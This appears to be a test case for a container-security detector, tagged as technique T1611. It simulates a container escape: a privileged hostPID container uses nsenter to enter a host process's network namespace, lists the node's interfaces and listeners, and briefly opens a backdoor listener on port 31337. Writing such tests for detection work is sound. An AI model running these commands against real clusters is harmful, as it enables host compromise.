# category: container-escape
# technique: T1611
# art: yes
# expect: host-namespace-entry namespace-change-in-container
# image: debian
# opts: --hostpid --no-nnp --cap CAP_SYS_ADMIN --cap CAP_SYS_PTRACE
# setup: hostproc
# desc: a hostPID container with CAP_SYS_ADMIN enters only the network namespace of a host process ($TARGET) with nsenter -n, looks at the node's interfaces and listeners, and opens a listener on the node's loopback (127.0.0.1:31337, for one second): a backdoor port on the host network without hostNetwork
nsenter -t "$TARGET" -n sh -c '
ip -brief addr | head -n 5
ss -ltn | head -n 5
python3 -c "
import socket, time
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
try:
    s.bind((\"127.0.0.1\", 31337)); s.listen(1)
    print(\"listening on the node, 127.0.0.1:31337\")
    time.sleep(1)
except OSError as e:
    print(\"bind 127.0.0.1:31337:\", e.strerror)
"'
